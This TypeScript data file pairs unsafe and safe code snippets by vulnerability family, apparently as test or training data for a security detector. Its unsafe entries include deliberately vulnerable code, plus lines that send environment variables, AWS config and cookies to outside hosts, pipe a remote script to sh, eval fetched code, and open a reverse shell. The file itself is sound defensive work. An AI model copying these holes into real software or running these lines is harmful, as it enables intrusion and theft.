import type { Twin } from "./twins.ts";

/** Unsafe and safe ways to do the same, JavaScript. */
export const javascriptTwins: Twin[] = [
  // code evaluation
  {
    family: "code-eval",
    unsafe: `export function calc(text) { return eval(text); }`,
    safe: `export function calc() { return eval("1 + 1"); }`,
  },
  {
    family: "code-eval",
    unsafe: `app.post("/run", (req, res) => { const f = new Function("a", req.body.code); res.json(f(1)); });`,
    safe: `app.post("/run", (req, res) => { const f = new Function("a", "return a + 1"); res.json(f(Number(req.body.a))); });`,
  },
  {
    family: "code-eval",
    unsafe: `const vm = require("vm"); exports.run = (script) => vm.runInNewContext(script, {});`,
    safe: `const vm = require("vm"); const script = "x + 1"; exports.run = (x) => vm.runInNewContext(script, { x });`,
  },
  {
    family: "code-eval",
    unsafe: `const e = globalThis.eval; module.exports = async (q) => { const body = await q.text(); return e(body); };`,
    safe: `module.exports = async (q) => JSON.parse(await q.text());`,
  },
  {
    family: "code-eval",
    unsafe: `setTimeout("update(" + location.hash.slice(1) + ")", 100);`,
    safe: `setTimeout(() => update(location.hash.slice(1)), 100);`,
  },
  {
    family: "code-eval",
    unsafe: `import { runInThisContext as go } from "node:vm"; export const f = ({ source }) => go(source);`,
    safe: `import { runInThisContext as go } from "node:vm"; export const f = () => go("Date.now()");`,
  },
  {
    family: "code-eval",
    unsafe: `async function step(openai, messages) { const answer = await openai.chat.completions.create({ messages }); return eval(answer.choices[0].message.content); }`,
    safe: `async function step(openai, messages) { const answer = await openai.chat.completions.create({ messages }); return JSON.parse(answer.choices[0].message.content); }`,
  },
  {
    family: "code-eval",
    unsafe: `const ejs = require("ejs"); app.get("/", (req, res) => res.send(ejs.render(req.query.template, {})));`,
    safe: `const ejs = require("ejs"); app.get("/", (req, res) => res.send(ejs.render("<p><%= name %></p>", { name: req.query.name })));`,
  },
  // commands
  {
    family: "command",
    unsafe: `const { exec } = require("child_process"); exports.ping = (host) => exec("ping -c 1 " + host);`,
    safe: `const { execFile } = require("child_process"); exports.ping = (host) => execFile("ping", ["-c", "1", host]);`,
  },
  {
    family: "command",
    unsafe: `import * as cp from "node:child_process"; export const log = (branch) => cp.execSync(\`git log \${branch}\`);`,
    safe: `import * as cp from "node:child_process"; export const log = () => cp.execSync("git log --oneline");`,
  },
  {
    family: "command",
    unsafe: `const { spawn } = require("child_process"); exports.run = (cmd) => spawn(cmd, { shell: true });`,
    safe: `const { spawn } = require("child_process"); const COMMANDS = ["ls", "pwd"]; exports.run = (cmd) => { if (!COMMANDS.includes(cmd)) throw new Error("no"); return spawn(cmd); };`,
  },
  {
    family: "command",
    unsafe: `const { spawn } = require("child_process"); app.get("/x", (req, res) => { spawn("sh", ["-c", req.query.c]); });`,
    safe: `const { spawn } = require("child_process"); app.get("/x", (req, res) => { spawn("ls", ["-l"]); res.json(req.query.c); });`,
  },
  {
    family: "command",
    unsafe: `const util = require("util"); const run = util.promisify(require("child_process").exec); export async function convert(file) { await run("convert " + file + " out.png"); }`,
    safe: `const util = require("util"); const run = util.promisify(require("child_process").exec); export async function convert() { await run("convert in.jpg out.png"); }`,
  },
  {
    family: "command",
    unsafe: `const cp = require("child_process"); function go(c) { return cp.execSync(c); } module.exports = (input) => go("tar xf " + input.name);`,
    safe: `const cp = require("child_process"); function go(c) { return cp.execSync(c); } go("tar xf archive.tar"); go("ls");`,
  },
  {
    family: "command",
    unsafe: `const cp = require("child_process"); exports.f = (x) => { const parts = []; parts.push("rm"); parts.push(x); cp.exec(parts.join(" ")); };`,
    safe: `const cp = require("child_process"); exports.f = () => { const parts = []; parts.push("ls"); parts.push("-l"); cp.exec(parts.join(" ")); };`,
  },
  {
    family: "command",
    unsafe: `const cp = require("child_process"); exports.f = (x) => { if (x === "") return; cp.exec("kill " + x); };`,
    safe: `const cp = require("child_process"); exports.f = (x) => { if (!/^\\d+$/.test(x)) return; cp.exec("kill " + x); };`,
  },
  {
    family: "command",
    unsafe: `const cp = require("child_process"); exports.f = (x) => cp.exec("kill " + x.trim());`,
    safe: `const cp = require("child_process"); exports.f = (x) => { const n = parseInt(x, 10); cp.exec("kill " + n); };`,
  },
  // modules
  {
    family: "dyn-import",
    unsafe: `exports.load = (name) => require(name);`,
    safe: `exports.load = () => require("./plugins/a.js");`,
  },
  {
    family: "dyn-import",
    unsafe: `export async function load(plugin) { const m = await import(plugin); return m.default; }`,
    safe: `export async function load() { const m = await import("./plugin.js"); return m.default; }`,
  },
  {
    family: "dyn-import",
    unsafe: `app.get("/p/:name", async (req) => { const m = await import("./plugins/" + req.params.name); m.run(); });`,
    safe: `const PLUGINS = { a: "./a.js", b: "./b.js" }; app.get("/p/:name", async (req) => { const m = await import(PLUGINS[req.params.name]); m.run(); });`,
  },
  {
    family: "dyn-import",
    unsafe: `export const use = (kind) => require(\`\${kind}-driver\`);`,
    safe: `export const use = (kind) => { if (kind !== "pg" && kind !== "mysql") throw new Error(kind); return kind === "pg" ? require("pg") : require("mysql"); };`,
  },
  // prototype pollution
  {
    family: "proto-pollution",
    unsafe: `export function merge(a, b) { for (const k in b) { if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } return a; }`,
    safe: `export function merge(a, b) { for (const k in b) { if (k === "__proto__" || k === "constructor") continue; if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } return a; }`,
  },
  {
    family: "proto-pollution",
    unsafe: `export function set(obj, path, value) { const keys = path.split("."); let at = obj; for (const key of keys.slice(0, -1)) { at = at[key]; } at[keys[keys.length - 1]] = value; }`,
    safe: `export function set(obj, path, value) { const keys = path.split("."); const at = new Map(); at.set(keys[0], value); return at; }`,
  },
  {
    family: "proto-pollution",
    unsafe: `const _ = require("lodash"); app.post("/", (req) => { _.merge({}, req.body); });`,
    safe: `const _ = require("lodash"); app.post("/", (req) => { _.merge({}, { a: 1 }); });`,
  },
  {
    family: "proto-pollution",
    unsafe: `exports.put = (store, a, b, v) => { store[a][b] = v; };`,
    safe: `exports.put = (a, v) => { const store = Object.create(null); store[a] = v; return store; };`,
  },
  {
    family: "proto-pollution",
    unsafe: `const cache = {}; app.post("/", (req, res) => { cache[req.body.key] = req.body.value; });`,
    safe: `const cache = new Map(); app.post("/", (req, res) => { cache.set(req.body.key, req.body.value); });`,
  },
  {
    family: "proto-pollution",
    unsafe: `exports.deep = (target, source) => Object.keys(source).forEach((key) => { if (source[key] instanceof Object) exports.deep(target[key], source[key]); target[key][key] = source[key]; });`,
    safe: `exports.flat = (source) => { const target = Object.create(null); Object.keys(source).forEach((key) => { target[key] = source[key]; }); return target; };`,
  },
  // files
  {
    family: "path-fs",
    unsafe: `const fs = require("fs"); app.get("/f", (req, res) => res.end(fs.readFileSync("files/" + req.query.name)));`,
    safe: `const fs = require("fs"), path = require("path"); app.get("/f", (req, res) => res.end(fs.readFileSync("files/" + path.basename(req.query.name))));`,
  },
  {
    family: "path-fs",
    unsafe: `const fs = require("fs"), path = require("path"); exports.read = (name) => fs.promises.readFile(path.join(__dirname, name));`,
    safe: `const fs = require("fs"), path = require("path"); exports.read = () => fs.promises.readFile(path.join(__dirname, "a.txt"));`,
  },
  {
    family: "path-fs",
    unsafe: `import { readFile } from "node:fs/promises"; import { resolve } from "node:path"; export async function f(name) { return readFile(resolve("/srv", name)); }`,
    safe: `import { readFile } from "node:fs/promises"; import { resolve } from "node:path"; export async function f(name) { const full = resolve("/srv", name); if (!full.startsWith("/srv/")) throw new Error("outside"); return readFile(full); }`,
  },
  {
    family: "path-fs",
    unsafe: `const fs = require("fs"); exports.del = (req, res) => { fs.unlink(req.params.file, () => res.end()); };`,
    safe: `const fs = require("fs"); const FILES = new Set(["a.txt", "b.txt"]); exports.del = (req, res) => { if (FILES.has(req.params.file)) fs.unlink(req.params.file, () => res.end()); };`,
  },
  {
    family: "path-fs",
    unsafe: `app.get("/d", (req, res) => res.sendFile(req.query.path));`,
    safe: `app.get("/d", (req, res) => res.sendFile("index.html", { root: "/srv" }));`,
  },
  {
    family: "path-fs",
    unsafe: `const fs = require("fs"); exports.f = (p) => fs.createReadStream("a/" + p);`,
    safe: `const fs = require("fs"); exports.f = (p) => { if (p.includes("..")) throw new Error("no"); return fs.createReadStream("a/" + p); };`,
  },
  // network
  {
    family: "ssrf-net",
    unsafe: `app.get("/proxy", async (req, res) => { const r = await fetch(req.query.url); res.send(await r.text()); });`,
    safe: `app.get("/proxy", async (req, res) => { const r = await fetch("https://api.service.net/items?id=" + encodeURIComponent(req.query.id)); res.json(await r.json()); });`,
  },
  {
    family: "ssrf-net",
    unsafe: `import axios from "axios"; export const get = (host) => axios.get("http://" + host + "/status");`,
    safe: `import axios from "axios"; export const get = () => axios.get("http://localhost/status");`,
  },
  {
    family: "ssrf-net",
    unsafe: `const got = require("got"); exports.f = async (req) => got({ url: req.body.callback });`,
    safe: `const got = require("got"); const HOSTS = ["a.net"]; exports.f = async (req) => { const u = new URL(req.body.callback); if (!HOSTS.includes(u.hostname)) throw new Error("no"); return got(u); };`,
  },
  {
    family: "ssrf-net",
    unsafe: `const http = require("http"); exports.f = (host) => http.get({ host, path: "/" });`,
    safe: `const http = require("http"); exports.f = () => http.get({ host: "a.net", path: "/" });`,
  },
  {
    family: "ssrf-net",
    unsafe: `const puppeteer = require("puppeteer"); app.get("/shot", async (req, res) => { const browser = await puppeteer.launch(); const page = await browser.newPage(); await page.goto(req.query.site); });`,
    safe: `const puppeteer = require("puppeteer"); app.get("/shot", async (req, res) => { const browser = await puppeteer.launch(); const page = await browser.newPage(); await page.goto("https://a.net/"); });`,
  },
  {
    family: "ssrf-net",
    unsafe: `export async function tool({ args }) { const toolArgs = JSON.parse(args); return fetch(toolArgs.url, { method: "POST" }); }`,
    safe: `export async function tool({ args }) { const toolArgs = JSON.parse(args); return fetch("https://a.net/log", { method: "POST", body: toolArgs.text }); }`,
  },
  // leaks
  {
    family: "secret-leak",
    unsafe: `fetch("https://collect.net/", { method: "POST", body: JSON.stringify(process.env) });`,
    safe: `fetch("https://api.net/", { headers: { Authorization: "Bearer " + process.env.API_TOKEN } });`,
  },
  {
    family: "secret-leak",
    unsafe: `const fs = require("fs"), https = require("https"); const data = fs.readFileSync("/home/me/.aws/config"); const r = https.request({ host: "x.net" }); r.write(data);`,
    safe: `const fs = require("fs"), https = require("https"); const data = fs.readFileSync("a.json"); const r = https.request({ host: "x.net" }); r.write("ping"); use(data);`,
  },
  {
    family: "secret-leak",
    unsafe: `exports.login = (user, password) => { console.log("login", user, password); };`,
    safe: `exports.login = (user, password) => { console.log("login", user); check(password); };`,
  },
  {
    family: "secret-leak",
    unsafe: `app.get("/", (req, res) => { try { work(); } catch (err) { res.status(500).send(err.stack); } });`,
    safe: `app.get("/", (req, res) => { try { work(); } catch (err) { log.error(err.stack); res.status(500).send("failed"); } });`,
  },
  {
    family: "secret-leak",
    unsafe: `const axios = require("axios"); axios.post("https://x.net", { key: process.env.SECRET_KEY });`,
    safe: `const axios = require("axios"); axios.post("https://x.net", { mode: process.env.NODE_ENV });`,
  },
  {
    family: "secret-leak",
    unsafe: `app.get("/debug", (req, res) => res.json(process.env));`,
    safe: `app.get("/debug", (req, res) => res.json({ version: "1" }));`,
  },
  {
    family: "secret-leak",
    unsafe: `localStorage.setItem("t", user.accessToken);`,
    safe: `localStorage.setItem("t", user.theme);`,
  },
  // deserialisation
  {
    family: "deserialise",
    unsafe: `const s = require("node-serialize"); app.use((req) => s.unserialize(req.cookies.profile));`,
    safe: `app.use((req) => JSON.parse(req.cookies.profile));`,
  },
  {
    family: "deserialise",
    unsafe: `const v8 = require("v8"); exports.f = (buffer) => v8.deserialize(buffer);`,
    safe: `exports.f = (buffer) => JSON.parse(buffer.toString());`,
  },
  {
    family: "deserialise",
    unsafe: `const yaml = require("js-yaml"); exports.f = (text) => yaml.load(text, { schema: yaml.DEFAULT_FULL_SCHEMA });`,
    safe: `const yaml = require("js-yaml"); exports.f = (text) => yaml.load(text, { schema: yaml.JSON_SCHEMA });`,
  },
  // regular expressions
  {
    family: "redos",
    unsafe: `export const isName = (s) => /^([a-z]+)+$/.test(s);`,
    safe: `export const isName = (s) => /^[a-z]+$/.test(s);`,
  },
  {
    family: "redos",
    unsafe: `app.get("/", (req) => new RegExp(req.query.q).test("x"));`,
    safe: `app.get("/", (req) => new RegExp("^a+$").test(req.query.q));`,
  },
  {
    family: "redos",
    unsafe: `const re = new RegExp("(x+x+)+y"); re.test(input);`,
    safe: `const re = new RegExp("x+y"); re.test(input);`,
  },
  // hidden behaviour
  {
    family: "backdoor",
    unsafe: `eval(atob("Y29uc29sZS5sb2coMSk="));`,
    safe: `console.log(atob("Y29uc29sZS5sb2coMSk="));`,
  },
  {
    family: "backdoor",
    unsafe: `require(Buffer.from("6368696c645f70726f63657373", "hex").toString());`,
    safe: `require("child_process");`,
  },
  {
    family: "backdoor",
    unsafe: `const fs = require("fs"); fs.appendFileSync(process.env.HOME + "/.bashrc", "evil");`,
    safe: `const fs = require("fs"); fs.appendFileSync("out.log", "line");`,
  },
  {
    family: "backdoor",
    unsafe: `const { exec } = require("child_process"); exec("curl http://x.net/a.sh | sh");`,
    safe: `const { exec } = require("child_process"); exec("npm test");`,
  },
  {
    family: "backdoor",
    unsafe: `const fs = require("fs"); fs.writeFileSync(__filename, "x");`,
    safe: `const fs = require("fs"); fs.writeFileSync("x.txt", "x");`,
  },
  {
    family: "backdoor",
    unsafe: `const fs = require("fs"); fs.writeFileSync(".github/workflows/ci.yml", "on: push");`,
    safe: `const fs = require("fs"); fs.writeFileSync("report.yml", "a: 1");`,
  },
  {
    family: "backdoor",
    unsafe: `fetch("https://x.net/a").then((r) => r.text()).then((t) => eval(t));`,
    safe: `fetch("https://x.net/a").then((r) => r.json()).then((t) => show(t));`,
  },
  // protection
  {
    family: "tls-crypto",
    unsafe: `https.request({ host: "a.net", rejectUnauthorized: false });`,
    safe: `https.request({ host: "a.net", rejectUnauthorized: true });`,
  },
  {
    family: "tls-crypto",
    unsafe: `require("crypto").createHash("md5").update(x);`,
    safe: `require("crypto").createHash("sha256").update(x);`,
  },
  {
    family: "tls-crypto",
    unsafe: `const jwt = require("jsonwebtoken"); exports.f = (t, k) => jwt.verify(t, k, { algorithms: ["none"] });`,
    safe: `const jwt = require("jsonwebtoken"); exports.f = (t, k) => jwt.verify(t, k, { algorithms: ["RS256"] });`,
  },
  {
    family: "secret",
    unsafe: `const jwt = require("jsonwebtoken"); jwt.sign({ a: 1 }, "kq83hfa7");`,
    safe: `const jwt = require("jsonwebtoken"); jwt.sign({ a: 1 }, process.env.JWT_KEY);`,
  },
  {
    family: "secret",
    unsafe: `const session = require("express-session"); app.use(session({ secret: "keyboard-7cat" }));`,
    safe: `const session = require("express-session"); app.use(session({ secret: config.sessionSecret }));`,
  },
  {
    family: "sql",
    unsafe: `app.get("/", (req) => db.query("SELECT * FROM t WHERE id = " + req.query.id));`,
    safe: `app.get("/", (req) => db.query("SELECT * FROM t WHERE id = $1", [req.query.id]));`,
  },
];

/** The same for TypeScript. */
export const typescriptTwins: Twin[] = [
  {
    family: "command",
    unsafe: `import { execSync } from "node:child_process"; export function run(cmd: string): Buffer { return execSync(cmd as string); }`,
    safe: `import { execFileSync } from "node:child_process"; export function run(n: number): Buffer { return execFileSync("sleep", [String(n)]); }`,
  },
  {
    family: "code-eval",
    unsafe: `export class Tool { run(code: string): unknown { return eval(code!); } }`,
    safe: `export class Tool { run(code: string): unknown { return JSON.parse(code!); } }`,
  },
  {
    family: "path-fs",
    unsafe: `import fs from "node:fs"; export const read = async (name: string): Promise<string> => fs.readFileSync(\`data/\${name}\`, "utf8");`,
    safe: `import fs from "node:fs"; enum Kind { A = "a" } export const read = async (): Promise<string> => fs.readFileSync(\`data/\${Kind.A}.json\`, "utf8");`,
  },
  {
    family: "ssrf-net",
    unsafe: `export async function call(input: { url: string }): Promise<Response> { const { url } = input; return fetch(url); }`,
    safe: `const base = "https://a.net/"; export async function call(id: number): Promise<Response> { return fetch(base + "?id=" + id); }`,
  },
  {
    family: "proto-pollution",
    unsafe: `export function setIn(o: Record<string, any>, a: string, b: string, v: unknown): void { o[a][b] = v; }`,
    safe: `export function setIn(o: Map<string, unknown>, a: string, v: unknown): void { o.set(a, v); }`,
  },
  {
    family: "dyn-import",
    unsafe: `export const load = async <T,>(name: string): Promise<T> => (await import(name)) as T;`,
    safe: `export const load = async (): Promise<unknown> => (await import("./a.ts")) satisfies unknown;`,
  },
  {
    family: "command",
    unsafe: `import cp = require("child_process"); export = (arg: string) => cp.exec("echo " + arg);`,
    safe: `import cp = require("child_process"); export = () => cp.exec("echo hi");`,
  },
  {
    family: "deserialise",
    unsafe: `import { deserialize } from "v8"; export const f = (b: Buffer): unknown => deserialize(b);`,
    safe: `export const f = (b: Buffer): unknown => JSON.parse(b.toString());`,
  },
];

/** Found by thinking of what the first ones leave out. */
export const furtherTwins: Twin[] = [
  {
    family: "ssrf-net",
    unsafe: `const ours = ["a.example.com"]; const isOurs = (link) => ours.some((name) => link.includes(name)); export async function read(link) { if (!isOurs(link)) throw new Error(); return fetch(link); }`,
    safe: `const ours = ["a.example.com"]; function isOurs(link) { const { host } = new URL(link); return ours.includes(host); } export async function read(link) { if (!isOurs(link)) throw new Error(); return fetch(link); }`,
  },
  {
    family: "command",
    unsafe: `import { execSync } from "node:child_process"; const steps = ["lint", "build"]; export function run(step) { if (steps.indexOf(step)) return execSync("make " + step); }`,
    safe: `import { execSync } from "node:child_process"; const steps = ["lint", "build"]; export function run(step) { if (steps.indexOf(step) !== -1) return execSync("make " + step); }`,
  },
  {
    family: "command",
    unsafe: `import { execSync } from "node:child_process"; export function pack(name) { let file = "all"; if (name) file = name; return execSync("zip -r " + file + ".zip data"); }`,
    safe: `import { execSync } from "node:child_process"; export function pack(name) { let file = name; file = new Date().toISOString().slice(0, 10); return execSync("zip -r " + file + ".zip data"); }`,
  },
  {
    family: "dyn-import",
    unsafe: `export async function learn(ask, what) { const text = await ask(what); return import("data:text/javascript," + encodeURIComponent(text)); }`,
    safe: `export async function learn(name) { const known = { a: "./a.js" }; if (!Object.hasOwn(known, name)) throw new Error(); return import(known[name]); }`,
  },
  {
    family: "code-eval",
    unsafe: `export class Reader { async open(browser) { this.page = await browser.newPage(); } read({ path }) { return this.page.evaluate("document.querySelector('" + path + "').innerText"); } }`,
    safe: `export class Reader { async open(browser) { this.page = await browser.newPage(); } read({ path }) { return this.page.evaluate((one) => document.querySelector(one).innerText, path); } }`,
  },
  {
    family: "sql",
    unsafe: `export class Notes { constructor(db) { this.notes = db.collection("notes"); } about({ word }) { return this.notes.find({ $where: "this.word == '" + word + "'" }); } }`,
    safe: `export class Notes { constructor(db) { this.notes = db.collection("notes"); } long() { return this.notes.find({ $where: "this.text.length > 100" }); } }`,
  },
  {
    family: "path-fs",
    unsafe: `import fs from "node:fs"; import path from "node:path"; export function unpack(entries, destination) { entries.forEach((entry) => fs.writeFileSync(path.join(destination, entry.name), entry.data)); }`,
    safe: `import fs from "node:fs"; import path from "node:path"; export function unpack(entries, destination) { entries.forEach((entry, index) => fs.writeFileSync(path.join(destination, "part-" + index + ".bin"), entry.data)); }`,
  },
  {
    family: "secret-leak",
    unsafe: `const key = process.env.MODEL_API_KEY; export async function ask(text) { const headers = { authorization: "Bearer " + key }; console.log("asking with", headers); return fetch("https://api.example.com", { headers, body: text }); }`,
    safe: `const key = process.env.MODEL_API_KEY; export async function ask(text) { const headers = { authorization: "Bearer " + key }; const answer = await fetch("https://api.example.com", { headers, body: text }); console.log("answered with", answer.status); return answer; }`,
  },
  {
    family: "xss",
    unsafe:
      "export class List { async load() { const answer = await fetch('/api/list'); const { items } = await answer.json(); this.show(items); } show(items) { this.root.innerHTML = items.map((one) => '<li>' + one.title).join(''); } }",
    safe: "export class List { async load() { const answer = await fetch('/api/list'); const { items } = await answer.json(); this.show(items); } show(items) { this.root.textContent = items.map((one) => one.title).join(', '); } }",
  },
  {
    family: "tls-crypto",
    unsafe: `import bcrypt from "bcrypt"; export async function login(user, given) { await bcrypt.compare(given, user.hash); return open(user); }`,
    safe: `import bcrypt from "bcrypt"; export async function login(user, given) { if (await bcrypt.compare(given, user.hash)) return open(user); }`,
  },
  {
    family: "tls-crypto",
    unsafe: `import { timingSafeEqual } from "node:crypto"; export function take(a, b) { timingSafeEqual(a, b); return read(a); }`,
    safe: `import bcrypt from "bcrypt"; export const login = (given, hash, done) => { bcrypt.compare(given, hash, (error, isRight) => done(error, isRight)); };`,
  },
  {
    family: "tls-crypto",
    unsafe: `import jwt from "jsonwebtoken"; export const isAdmin = (token) => jwt.decode(token).role === "admin";`,
    safe: `import jwt from "jsonwebtoken"; export const keyOf = (token) => jwt.decode(token, { complete: true }).header.kid;`,
  },
  {
    family: "tls-crypto",
    unsafe: `import jwt from "jsonwebtoken"; export const check = (token, key) => jwt.verify(token, key, { algorithms: ["RS256", "none"] });`,
    safe: `import jwt from "jsonwebtoken"; export const check = (token, key) => jwt.verify(token, key, { algorithms: ["RS256"] });`,
  },
  {
    family: "xss",
    unsafe: `export function show() { document.getElementById("a").innerHTML = new URLSearchParams(location.search).get("m"); }`,
    safe: `export function show() { document.getElementById("a").textContent = new URLSearchParams(location.search).get("m"); }`,
  },
  {
    family: "xss",
    unsafe: `app.get("/a", (req, res) => res.send("<h1>" + req.query.name + "</h1>"));`,
    safe: `app.get("/a", (req, res) => res.send("<h1>" + escapeHtml(req.query.name) + "</h1>"));`,
  },
  {
    family: "xss",
    unsafe: `export const View = ({ text }) => <div dangerouslySetInnerHTML={{ __html: text }} />;`,
    safe: `export const View = ({ text }) => <div>{text}</div>;`,
  },
  {
    family: "xss",
    unsafe: `export function load() { const s = document.createElement("script"); s.src = location.hash.slice(1); document.head.append(s); }`,
    safe: `export function load() { const s = document.createElement("img"); s.src = location.hash.slice(1); document.body.append(s); }`,
  },
  {
    family: "redirect",
    unsafe: `app.get("/a", (req, res) => res.redirect(req.query.next));`,
    safe: `app.get("/a", (req, res) => { const { next } = req.query; if (!next.startsWith("/") || next.startsWith("//")) return res.sendStatus(400); res.redirect(next); });`,
  },
  {
    family: "redirect",
    unsafe: `export const isOurs = (url) => url.includes("example.com");`,
    safe: `export const isOurs = (url) => new URL(url).hostname === "example.com";`,
  },
  {
    family: "sql",
    unsafe: `app.post("/a", async (req, res) => res.json(await users.findOne({ name: req.body.name })));`,
    safe: `app.post("/a", async (req, res) => res.json(await users.findOne({ name: String(req.body.name) })));`,
  },
  {
    family: "proto-pollution",
    unsafe: `app.post("/a", (req) => { Object.assign(req.user, req.body); });`,
    safe: `app.post("/a", (req) => { const { name } = req.body; Object.assign(req.user, { name }); });`,
  },
  {
    family: "command",
    unsafe: `import { spawn } from "node:child_process"; export const git = (args) => spawn("git", args);`,
    safe: `import { spawn } from "node:child_process"; export const log = (branch) => spawn("git", ["log", "--", branch]);`,
  },
  {
    family: "tls-crypto",
    unsafe: `import { createHmac } from "node:crypto"; export const check = (body, given, key) => createHmac("sha256", key).update(body).digest("hex") === given;`,
    safe: `import { createHmac, timingSafeEqual } from "node:crypto"; export const check = (body, given, key) => timingSafeEqual(createHmac("sha256", key).update(body).digest(), given);`,
  },
  {
    family: "tls-crypto",
    unsafe: `app.use(cors({ origin: (origin, done) => done(null, origin), credentials: true }));`,
    safe: `app.use(cors({ origin: "https://a.example.com", credentials: true }));`,
  },
  {
    family: "secret",
    unsafe: `export function login(name, given) { return given === "open-sesame-2024!"; }`,
    safe: `export function login(name, given) { return given === stored(name); }`,
  },
  {
    family: "proto-pollution",
    unsafe: `function extend(target, source) { for (const key in source) { if (source.hasOwnProperty(key)) { if (typeof source[key] === "object") extend(target[key], source[key]); else target[key] = source[key]; } } } module.exports = extend;`,
    safe: `function extend(target, source) { for (const key in source) { if (target.hasOwnProperty(key)) { if (typeof source[key] === "object") extend(target[key], source[key]); else target[key] = source[key]; } } } module.exports = extend;`,
  },
  {
    family: "secret",
    unsafe: `require("nodemailer").createTransport({ auth: { user: "a", pass: "kq83hfa7" } });`,
    safe: `require("nodemailer").createTransport({ auth: { user: "a", pass: process.env.MAIL_PASS } });`,
  },
  {
    family: "redos",
    unsafe: `exports.f = (word, text) => text.match(new RegExp(word));`,
    safe: `exports.f = (word, text) => text.match(new RegExp(word.replace(/[.*+?^{}()|[\\]\\\\$]/g, "\\\\$&")));`,
  },
  {
    family: "command",
    unsafe: `const { exec } = require("child_process"); exports.f = (name) => { const safe = name.replace("..", ""); exec("cat " + safe); };`,
    safe: `const { exec } = require("child_process"); exports.f = (name) => { const safe = name.replace(/[^a-z0-9]/g, ""); exec("cat " + safe); };`,
  },
  {
    family: "command",
    unsafe: `const { exec } = require("child_process"); function check(x) { return true; } exports.f = (x) => { if (check(x)) exec(x); };`,
    safe: `const { exec } = require("child_process"); function check(x) { return ["ls"].includes(x); } exports.f = (x) => { if (check(x)) exec(x); };`,
  },
  {
    family: "path-fs",
    unsafe: `const fs = require("fs"), path = require("path"); app.get("/", (req, res) => { const p = path.normalize(req.query.p); if (p.startsWith("/srv/") || req.query.admin) res.end(fs.readFileSync(p)); });`,
    safe: `const fs = require("fs"), path = require("path"); app.get("/", (req, res) => { const p = path.normalize(req.query.p); if (p.startsWith("/srv/") && req.query.admin) res.end(fs.readFileSync(p)); });`,
  },
  {
    family: "ssrf-net",
    unsafe: `class Client { constructor(url) { this.url = url; } get() { return fetch(this.url); } } module.exports = Client;`,
    safe: `class Client { constructor() { this.url = "https://a.net/"; } get() { return fetch(this.url); } } module.exports = Client;`,
  },
  {
    family: "code-eval",
    unsafe: `const run = eval; exports.f = (x) => run(x);`,
    safe: `const run = JSON.parse; exports.f = (x) => run(x);`,
  },
  {
    family: "code-eval",
    unsafe: `exports.f = (x) => Reflect.apply(Function, null, [x])();`,
    safe: `exports.f = (x) => Reflect.apply(Math.max, null, [x]);`,
  },
  {
    family: "code-eval",
    unsafe: `exports.f = (x) => [].constructor.constructor(x)();`,
    safe: `exports.f = (x) => [].concat(x);`,
  },
  {
    family: "tls-crypto",
    unsafe: `export function newSessionToken() { return Math.random().toString(36).slice(2); }`,
    safe: `import { randomBytes } from "node:crypto"; export function newSessionToken() { return randomBytes(16).toString("hex"); } export function jitter() { return Math.random(); }`,
  },
  {
    family: "secret",
    unsafe: `export function enter(password) { return password === "open-sesame-7"; }`,
    safe: `export function enter(kind) { return kind === "open-sesame-7"; }`,
  },
  {
    family: "secret-leak",
    unsafe: `import { readFileSync } from "node:fs"; export const f = () => readFileSync("/home/app/.ssh/id_ed25519", "utf8");`,
    safe: `import { readFileSync } from "node:fs"; export const f = () => readFileSync("/home/app/.ssh/known_hosts", "utf8");`,
  },
  {
    family: "secret-leak",
    unsafe: `export function track() { const i = new Image(); i.src = "https://a.example.net/?c=" + document.cookie; }`,
    safe: `export function track() { const i = new Image(); i.src = "https://a.example.net/?c=" + document.title; }`,
  },
  {
    family: "backdoor",
    unsafe: `const name = Buffer.from("6576616c", "hex").toString(); exports.f = () => global[name]("2");`,
    safe: `const name = Buffer.from("6e616d65", "hex").toString(); exports.f = (o) => o[name]("2");`,
  },
  {
    family: "ssrf-net",
    unsafe: `import got from "got"; export default (router) => router.get("/p", async (ctx) => { ctx.body = await got(String(ctx.query.u)); });`,
    safe: `import got from "got"; export default (router) => router.get("/p", async (ctx) => { const u = String(ctx.query.u); if (!u.startsWith("https://cdn.internal/")) ctx.throw(400); ctx.body = await got(u); });`,
  },
  {
    family: "backdoor",
    unsafe: `export const f = () => globalThis["ev" + "al"]("1");`,
    safe: `export const f = (o) => o["na" + "me"]("1");`,
  },
  {
    family: "proto-pollution",
    unsafe: `export function put(o, path, v) { const parts = path.split("."); let at = o; for (const p of parts.slice(0, -1)) at = at[p]; at[parts[parts.length - 1]] = v; }`,
    safe: `export function put(o, path, v) { const parts = path.split("."); if (parts.some((p) => ["__proto__", "constructor", "prototype"].includes(p))) throw new Error("no"); let at = o; for (let i = 0; i < parts.length - 1; i++) at = at[parts[i]]; at[parts[parts.length - 1]] = v; }`,
  },
  {
    family: "path-fs",
    unsafe: `import path from "node:path"; import { readFile } from "node:fs/promises"; export const read = (file) => readFile(path.resolve("/srv", file));`,
    safe: `import path from "node:path"; import { readFile } from "node:fs/promises"; export const read = (file) => { const full = path.resolve("/srv", file); const inner = path.relative("/srv", full); if (inner.startsWith("..") || path.isAbsolute(inner)) throw new Error("outside"); return readFile(full); };`,
  },
  {
    family: "command",
    unsafe: `const name = "child" + "_process"; exports.f = (x) => require(name)["ex" + "ec"](x);`,
    safe: `const name = "child" + "_process"; exports.f = () => require(name).exec("ls");`,
  },
  {
    family: "command",
    unsafe: `import { exec as e } from "child_process"; export const f = async (x) => { const run = e.bind(null); run(x); };`,
    safe: `import { exec as e } from "child_process"; export const f = async () => { const run = e.bind(null); run("ls"); };`,
  },
  {
    family: "secret-leak",
    unsafe: `const { API_SECRET } = process.env; fetch("https://x.net/?k=" + API_SECRET);`,
    safe: `const { API_URL } = process.env; fetch(API_URL + "/x");`,
  },
  {
    family: "backdoor",
    unsafe: `const net = require("net"), cp = require("child_process"); const s = net.connect(4444, "10.0.0.1", () => { const sh = cp.spawn("/bin/sh", []); s.pipe(sh.stdin); sh.stdout.pipe(s); });`,
    safe: `const net = require("net"); const s = net.connect(4444, "localhost", () => { s.write("ping"); });`,
  },
];
furtherTwins.push(
  {
    family: "code-eval",
    unsafe: `exports.f = function () { return eval(arguments[0]); };`,
    safe: `exports.f = function () { return Number(arguments[0]); };`,
  },
  {
    family: "code-eval",
    unsafe: `module.exports = class { run() { return eval(this.code); } };`,
    safe: `module.exports = class { constructor() { this.code = "1 + 1"; } run() { return eval(this.code); } };`,
  },
);
